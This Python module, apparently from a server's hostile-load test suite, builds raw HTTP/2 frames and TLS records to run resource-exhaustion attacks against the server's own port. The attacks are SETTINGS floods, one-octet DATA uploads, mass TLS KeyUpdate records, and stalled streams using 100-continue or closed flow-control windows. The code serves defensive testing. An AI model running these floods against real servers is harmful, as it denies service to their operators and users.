"""Attacks on what one connection may take: of memory, of upstream connections, of everybody's time.

Each is a few kB, or a few MB a second. What they did before there was a defence is in
docs/hostile-load.md.
"""

from __future__ import annotations

import socket
import ssl
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from tempfile import NamedTemporaryFile
from typing import Protocol

from .records import Records
from .sockets import client_context, connect

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
Opened = tuple[list[socket.socket], str]


class Siege(Protocol):
    """Of hostile.Siege."""

    https: int
    seconds: float


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One of HTTP/2."""
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def fields(path: bytes = b"/", method: bytes = b"\x82", *more: bytes) -> bytes:
    """A header block: GET (or what `method` stands for in the table), and literals."""
    literal = b"\x04" + bytes([len(path)]) + path
    return method + b"\x87" + literal + b"\x01\x09localhost" + b"".join(more)


@contextmanager
def _http2(siege: Siege, settings: bytes = b"") -> Iterator[ssl.SSLSocket]:
    context = client_context()
    context.set_alpn_protocols(["h2"])
    with connect(siege.https, context) as sock:
        assert isinstance(sock, ssl.SSLSocket)
        sock.sendall(PREFACE + frame(4, 0, 0, settings))
        sock.settimeout(5)
        yield sock


def _again(siege: Siege, attack: Callable[[], int]) -> str:
    end = time.monotonic() + siege.seconds
    done = connections = 0
    while time.monotonic() < end:
        connections += 1
        with suppress(OSError):
            done += attack()
    return f"{done} octets on {connections} connections"


def settings(siege: Siege) -> Opened:
    """Every identifier that nobody knows, then SETTINGS that say nothing."""
    known = [(number, number + 2700) for number in range(16, 60_000, 2700)]
    blocks = [
        b"".join(number.to_bytes(2) + b"\0\0\0\1" for number in range(*bounds)) for bounds in known
    ]

    def attack() -> int:
        with _http2(siege) as sock:
            for block in blocks:
                sock.sendall(frame(4, 0, 0, block))
            for _ in range(500):
                sock.sendall(frame(4, 0, 0))
        return 6 * 60_000 + 4500

    return [], _again(siege, attack)


def tiny_content(siege: Siege) -> Opened:
    """Uploads in frames of one octet."""

    def attack() -> int:
        with _http2(siege) as sock:
            data = frame(1, 4, 1, fields(b"/echo", b"\x83")) + frame(0, 0, 1, b"x") * 60_000
            sock.sendall(data)
            return len(data)

    return [], _again(siege, attack)


def key_updates(siege: Siege) -> Opened:
    """TLS 1.3's KeyUpdate, as many as are taken."""

    def attack() -> int:
        context = client_context()
        with NamedTemporaryFile() as log:
            context.keylog_filename = log.name
            with connect(siege.https, context) as sock:
                assert isinstance(sock, ssl.SSLSocket)
                cipher = sock.cipher()
                assert cipher is not None
                records = Records(cipher[0], log.read())
                # Its own records are made here now: the library's object is left aside.
                with socket.socket(fileno=sock.detach()) as raw:
                    raw.sendall(records.record(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"))
                    data = b"".join(records.key_update() for _ in range(20_000))
                    raw.sendall(data)
                    raw.sendall(records.record(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"))
                    raw.settimeout(20)
                    raw.recv(65536)
                    return len(data)

    return [], _again(siege, attack)


def _held(siege: Siege, settings: bytes, head: Callable[[int], bytes]) -> Opened:
    """Three connections with 100 streams each that stay, and do nothing."""
    kept: list[socket.socket] = []
    context = client_context()
    context.set_alpn_protocols(["h2"])
    end = time.monotonic() + siege.seconds
    octets = 0
    while time.monotonic() < end and len(kept) < 30:
        for _ in range(3):
            sock = connect(siege.https, context)
            said = PREFACE + frame(4, 0, 0, settings)
            said += b"".join(head(number) for number in range(1, 200, 2))
            sock.sendall(said)
            octets += len(said)
            kept.append(sock)
        time.sleep(siege.seconds / 10)
    return kept, f"{octets} octets on {len(kept)} connections"


def uploads_that_stop(siege: Siege) -> Opened:
    """They ask for a 100, hold an upstream connection, and send nothing."""
    block = fields(b"/echo", b"\x83", b"\x10\x06expect\x0c100-continue")
    return _held(siege, b"", lambda number: frame(1, 4, number, block))


def closed_windows(siege: Siege) -> Opened:
    """Responses of 100 kB whose windows are never opened."""
    block = fields(b"/stream?bytes=100000")
    return _held(siege, b"\0\4\0\0\0\0", lambda number: frame(1, 5, number, block))
